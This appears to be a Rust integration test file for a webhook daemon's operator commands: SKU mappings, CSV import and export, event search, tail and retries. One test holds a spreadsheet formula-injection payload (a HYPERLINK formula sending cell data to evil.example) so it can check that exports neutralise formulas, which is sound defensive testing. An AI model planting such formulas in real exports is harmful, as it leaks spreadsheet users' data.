//! Daily commands of an operator: mappings, search, tail, retries of many events.

use crate::support::{Daemon, Home, Request, SHOP, easypost_request, order_body, shopify_request};
use serde_json::Value;
use std::fs;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

fn golden_body(name: &str) -> Vec<u8> {
    fs::read(format!("{}/tests/it/golden/{name}.json", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

fn send_webhook(daemon: &Daemon<'_>, topic: &str) {
    let body = golden_body(&format!("shopify.{}", topic.replace('/', "-")));
    let request = shopify_request(topic, &body).with_header("X-Shopify-Topic", topic);
    daemon.request(&Request { path: format!("/api/webhooks/shopify/{topic}"), ..request }).event_id();
}

fn parse_json_lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn mappings_are_added_imported_exported_and_complete_orders() {
    let home = Home::new("");
    let daemon = home.serve();
    send_webhook(&daemon, "orders/create");
    home.wait_until_processed();
    let unmapped = home.run_ok(&["mappings", "list", "--unmapped", "--json"]);
    assert!(
        parse_json_lines(&unmapped).iter().any(|line| line["sku"] == "GRANOLA-12" && line["orders"] == 1),
        "{unmapped}"
    );
    let printed =
        home.run_ok(&["mappings", "add", "--shop", SHOP, "--sku", "GRANOLA-12", "--item", "G-1", "--factor", "12"]);
    assert!(printed.starts_with("1 mapping saved; 1 order line completed, 1 still waits"), "{printed}");
    assert_eq!(home.sql("SELECT item, item_quantity FROM sales_order_lines WHERE sku = 'GRANOLA-12'"), "G-1|24");
    // Wrong arguments are refused before anything is written.
    for wrong in [
        &["mappings", "add", "--shop", SHOP, "--item", "x"][..],
        &["mappings", "add", "--shop", SHOP, "--sku", "a", "--variant", "1", "--item", "x"],
        &["mappings", "add", "--shop", SHOP, "--sku", "a", "--item", "x", "--factor", "0"],
    ] {
        assert_eq!(home.run(wrong).status.code(), Some(2), "{wrong:?}");
    }
    let exported = home.run_ok(&["mappings", "export"]);
    assert_eq!(exported, format!("shop_domain,variant_id,sku,item,factor,note\n{SHOP},,GRANOLA-12,G-1,12,\n"));

    let file = home.path("m.csv");
    let path = file.display().to_string();
    fs::write(
        &file,
        format!("\u{feff}shop_domain,variant_id,sku,item,factor\n{SHOP},,JAM,J,\n{SHOP},4.32E+16,,G,1\n,,A,B,1\n{SHOP},,C,,x\n"),
    )
    .unwrap();
    let output = home.run(&["mappings", "import", &path]);
    let printed = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1));
    for expected in [
        ":3: the variant_id \"4.32E+16\" is not a whole number",
        ":4: the shop must be",
        ":5: the item is missing; the factor \"x\"",
    ] {
        assert!(printed.contains(expected), "{expected} is not in\n{printed}");
    }
    assert_eq!(home.sql("SELECT count(*) FROM shopify_product_mappings"), "1", "a file with an error imports nothing");
    fs::write(
        &file,
        format!("item,sku,shop_domain,variant_id\nG-12,,{SHOP},43212345678901234\nG-2,GRANOLA-12,{SHOP},\n"),
    )
    .unwrap();
    assert_eq!(
        home.run_ok(&["mappings", "import", "--dry-run", &path]),
        "Read as comma-separated, UTF-8. 2 mappings are valid; nothing was imported\n"
    );
    assert_eq!(home.sql("SELECT count(*) FROM shopify_product_mappings"), "1");
    home.run_ok(&["mappings", "import", &path]);
    assert_eq!(
        home.sql("SELECT item FROM sales_order_lines WHERE sku = 'GRANOLA-12'"),
        "G-12",
        "the variant's mapping has priority"
    );
    home.run_ok(&["mappings", "remove", "--shop", SHOP, "--variant", "43212345678901234"]);
    assert_eq!(home.sql("SELECT item, item_quantity FROM sales_order_lines WHERE sku = 'GRANOLA-12'"), "G-2|2");
    assert_eq!(home.run(&["mappings", "remove", "--shop", SHOP, "--sku", "none"]).status.code(), Some(1));
}

#[test]
fn exported_mappings_hold_no_formula_and_are_imported_as_they_were() {
    let home = Home::new("");
    home.serve().stop();
    let (item, note) = ("@G-1", "=HYPERLINK(\"http://evil.example/?\"&A1)");
    home.run_ok(&["mappings", "add", "--shop", SHOP, "--sku=-7", "--item", item, "--note", note]);
    let exported = home.run_ok(&["mappings", "export"]);
    let line = format!("{SHOP},,-7,'@G-1,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
    assert_eq!(exported.lines().nth(1), Some(line.as_str()));
    home.run_ok(&["mappings", "remove", "--shop", SHOP, "--sku=-7"]);
    let file = home.path("m.csv");
    fs::write(&file, exported).unwrap();
    home.run_ok(&["mappings", "import", &file.display().to_string()]);
    assert_eq!(home.sql("SELECT sku, item, note FROM shopify_product_mappings"), format!("-7|{item}|{note}"));
}

#[test]
fn search_finds_events_by_everyday_words() {
    let home = Home::new("");
    let daemon = home.serve();
    for topic in ["orders/create", "fulfillments/create", "refunds/create", "customers/update", "products/update"] {
        send_webhook(&daemon, topic);
    }
    daemon.request(&easypost_request(&golden_body("easypost.tracker.updated"))).event_id();
    daemon.send_order("other", &order_body(77));
    home.wait_until_processed();
    let topics = |word: &str| -> Vec<String> {
        let mut found: Vec<String> = parse_json_lines(&home.run_ok(&["events", "search", word, "--json"]))
            .iter()
            .map(|hit| hit["topic"].as_str().unwrap().to_owned())
            .collect();
        found.sort();
        found
    };
    let of_order = ["fulfillments/create", "orders/create", "refunds/create"];
    for word in ["#1001", "1001", "5820982911946154508"] {
        assert_eq!(topics(word), of_order, "{word}");
    }
    for word in ["ADA@example.com", "example"] {
        assert_eq!(
            topics(word),
            ["customers/update", "fulfillments/create", "orders/create", "refunds/create"],
            "{word}"
        );
    }
    assert_eq!(
        topics("1z999aa10123456784"),
        ["fulfillments/create", "orders/create", "refunds/create", "tracker.updated"]
    );
    assert_eq!(topics("GRANOLA-12"), of_order);
    assert_eq!(topics("7889812345678901234"), ["products/update"]);
    assert_eq!(topics("#77"), ["orders/create"]);
    assert_eq!(home.run_ok(&["events", "search", "nobody@example.com"]), "No event matches.\n");
    assert_eq!(home.run_ok(&["events", "search", "#1001", "--limit", "1", "--json"]).lines().count(), 1);
}

/// Returns the queries of a constant in the source of the search.
fn search_queries(constant: &str) -> Vec<String> {
    let source = fs::read_to_string(format!("{}/src/store/events/search.rs", env!("CARGO_MANIFEST_DIR"))).unwrap();
    let after = &source[source.find(&format!("const {constant}:")).unwrap()..];
    let constant = &after[..after.find(";\n\n").unwrap()];
    let queries = constant.split('"').filter(|text| text.starts_with("SELECT"));
    queries.map(|query| query.replace("\\\n", " ")).collect()
}

/// A lookup reads an index. A scan reads the newest rows up to its limit, without sorting.
#[test]
fn search_reads_indexes_and_the_newest_rows_only() {
    let home = Home::new("");
    home.serve().stop();
    let mut looked = 0;
    for constant in ["LOOKUPS", "PREFIX_LOOKUPS", "FULL_NAME_LOOKUP"] {
        for query in search_queries(constant) {
            let query = query.replace("?1", "'x'").replace("?2", "10").replace("?3", "'y'");
            let plan = home.sql(&format!("EXPLAIN QUERY PLAN {query}"));
            assert!(!plan.contains("SCAN ") || plan.contains("SCAN CONSTANT ROW"), "{query}\n{plan}");
            looked += 1;
        }
    }
    assert_eq!(looked, 23);
    let scans = search_queries("SCANS");
    assert_eq!(scans.len(), 14);
    for query in scans {
        assert!(query.ends_with("ORDER BY rowid DESC LIMIT ?"), "{query}");
        let plan = home.sql(&format!("EXPLAIN QUERY PLAN {}", query.replace('?', "10")));
        assert!(plan.contains("SCAN ") && !plan.contains("TEMP B-TREE"), "{query}\n{plan}");
    }
}

/// A part of a text that people know, in any case and order of words.
#[test]
fn search_finds_parts_of_words() {
    let home = Home::new("");
    let daemon = home.serve();
    for topic in ["orders/create", "fulfillments/create", "customers/update", "products/update"] {
        send_webhook(&daemon, topic);
    }
    daemon.request(&easypost_request(&golden_body("easypost.tracker.updated"))).event_id();
    daemon.send_order("other", &order_body(77));
    home.wait_until_processed();
    let product = home.sql("SELECT title FROM products");
    let line = home.sql("SELECT title FROM sales_order_lines WHERE sku = 'GRANOLA-12'");
    let parts = |text: &str| -> Vec<String> {
        let text: Vec<char> = text.chars().collect();
        [&text[..3], &text[2..6], &text[text.len() - 3..]].map(|part| part.iter().collect()).to_vec()
    };
    let cases = [
        (
            "orders/create",
            vec![
                "#100",
                "100",
                "PO-77",
                "778",
                "granola",
                "NOLA-1",
                "corner",
                "grocery",
                "ada",
                "Ada Example",
                "example ada",
                "Example, Ada",
                "ada@",
                "a@example",
            ],
        ),
        ("customers/update", vec!["ada", "Ada Example", "exam", "ample", "ada@exa"]),
        ("tracker.updated", vec!["1Z999AA1", "999aa101"]),
        ("fulfillments/create", vec!["1z999AA1", "#1001"]),
    ];
    let mut cases: Vec<(&str, Vec<String>)> =
        cases.into_iter().map(|(topic, words)| (topic, words.into_iter().map(str::to_owned).collect())).collect();
    cases.push(("products/update", parts(&product)));
    cases.push(("orders/create", parts(&line)));
    for (topic, words) in cases {
        for word in words {
            let found = home.run_ok(&["events", "search", &word, "--json"]);
            assert!(
                parse_json_lines(&found).iter().any(|hit| hit["topic"] == topic),
                "{word} finds no {topic}:\n{found}"
            );
        }
    }
    assert_eq!(home.run_ok(&["events", "search", "ada nobody"]), "No event matches.\n", "every word must match");
    assert_eq!(home.run_ok(&["events", "search", " , "]), "No event matches.\n");
    let more = home.run_ok(&["events", "search", "a", "--limit", "1"]);
    assert!(more.contains("More events match: raise --limit"), "{more}");
}

/// The whole text has priority over a part of it, whatever is newer.
#[test]
fn search_lists_whole_words_first() {
    let home = Home::new("");
    let daemon = home.serve();
    for id in [7, 77, 777] {
        daemon.send_order(&format!("w{id}"), &order_body(id));
    }
    home.wait_until_processed();
    let names: Vec<Value> = parse_json_lines(&home.run_ok(&["events", "search", "#7", "--json"]))
        .into_iter()
        .map(|hit| hit["order_number"].clone())
        .collect();
    assert_eq!(names, ["#7", "#777", "#77"]);
}

/// An order whose event failed, or waits, is in no table: its body has the words.
#[test]
fn search_finds_events_without_rows() {
    let home = Home::new("");
    let daemon = home.serve();
    let broken = String::from_utf8(order_body(4711)).unwrap().replace("\"10.00\"", "\"much\"");
    daemon.send_order("w1", broken.as_bytes());
    daemon.send_order("w2", &order_body(47));
    home.wait_until_processed();
    daemon.stop();
    assert_eq!(home.sql("SELECT status FROM webhook_events WHERE id = 1"), "failed");
    home.run_ok(&["events", "retry", "2"]);
    home.sql("DELETE FROM sales_orders; DELETE FROM sales_order_lines; DELETE FROM event_subjects");
    for (word, id) in [("#4711", 1), ("4711", 1), ("#47", 2)] {
        let hits = parse_json_lines(&home.run_ok(&["events", "search", word, "--json"]));
        let ids: Vec<&Value> = hits.iter().map(|hit| &hit["id"]).collect();
        assert_eq!(ids, [id], "{word}");
        assert_eq!(hits[0]["subject"], "its body");
    }
    assert!(home.run_ok(&["events", "search", "#4711"]).contains("failed"));
}

#[test]
fn tail_prints_new_steps() {
    let home = Home::new("");
    let daemon = home.serve();
    daemon.send_order("before", &order_body(1));
    home.wait_until_processed();
    let mut tail = home
        .command(&["events", "tail", "--topic", "orders/*", "--limit", "3", "--json"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(tail.stdout.take().unwrap()).lines();
    // `tail` begins with steps after its start, which the test cannot see. Webhooks are sent until it prints a step.
    let sender = std::thread::spawn({
        let address = daemon.address;
        move || {
            for id in 0.. {
                let mut connection = crate::support::Connection::open(address).unwrap();
                connection.request(&shopify_request(&format!("w{id}"), &order_body(2)));
                if id > 500 {
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
        }
    });
    let steps: Vec<Value> = (0..3).map(|_| serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap()).collect();
    assert!(tail.wait().unwrap().success());
    assert!(
        steps.iter().all(|step| step["topic"] == "orders/create" && step["event_id"].as_i64() > Some(1)),
        "{steps:?}"
    );
    drop(sender);
}

#[test]
fn interrupted_retry_of_many_events_continues() {
    let home = Home::new("");
    let daemon = home.serve();
    for id in 1..=30 {
        daemon.send_order(&format!("w{id}"), b"no json");
    }
    home.wait_until_processed();
    assert_eq!(home.sql("SELECT count(*) FROM failures"), "30");
    let error = home.sql("SELECT DISTINCT error FROM failures");
    assert!(error.contains("it is not JSON at line 1, column 2"), "the error names its place: {error}");
    let would = home.run_ok(&["events", "retry", "--status", "failed", "--dry-run"]);
    assert_eq!((would.lines().count(), would.lines().next()), (30, Some("event 30 would be due now")));
    assert_eq!(home.sql("SELECT count(*) FROM webhook_event_log WHERE error = 'retried by hand'"), "0");
    daemon.stop();
    assert_eq!(home.run_ok(&["events", "retry", "--topic", "orders/*", "--limit", "10", "--json"]).lines().count(), 10);
    assert_eq!(home.sql("SELECT min(id), max(id) FROM webhook_events WHERE status = 'received'"), "21|30");
    let went_on = home.run_ok(&["events", "retry", "--topic", "orders/*", "--before", "21", "--json"]);
    assert_eq!((went_on.lines().count(), home.sql("SELECT count(*) FROM failures").as_str()), (20, "0"));
}
